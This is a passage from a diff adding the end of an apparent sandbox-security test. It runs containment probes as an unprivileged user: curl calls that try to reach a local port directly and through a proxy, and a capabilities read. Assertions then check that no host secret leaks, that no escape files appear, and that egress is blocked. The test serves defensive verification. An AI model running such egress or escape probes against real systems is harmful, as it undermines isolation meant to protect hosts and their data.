+        `curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/; curl -sS --max-time 5 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:${port}/; echo`,
+        'grep CapEff /proc/self/status',
+      ],
+      { nobody: true },
+    );
+    const [files, layout, unshare, flood, loop, caps] = r.out.results;
+    expect(files?.output).not.toContain('HOSTSECRET');
+    expect(existsSync(join(victimDir, here))).toBe(false);
+    expect(existsSync(`/srv/${here}`)).toBe(false);
+    expect(files?.denials.map((d) => d.path)).toEqual(expect.arrayContaining([secretFile, join(victimDir, here)]));
+    expect(layout?.output).toMatch(/Read-only file system[\s\S]*done\n$/);
+    expect(readFileSync(join(r.out.described.root, MARKER), 'utf8')).toMatch(/quickloop/);
+    expect(existsSync(join(r.out.described.root, 'evil'))).toBe(false);
+    expect(unshare?.output).toMatch(/^unshare=1$/m);
+    expect(flood?.output).toBe('flooded\n');
+    expect(loop?.output).not.toContain('HOSTSECRET');
+    expect(hits).toEqual([]);
+    expect(r.out.events).toContainEqual(expect.objectContaining({ type: 'egress.blocked', host: '127.0.0.1', port, reason: 'ip_literal' }));
+    expect(caps?.output).toMatch(/CapEff:\s+0{16}/);
+    removeLayout({ root: r.out.described.root });
+  });
+});
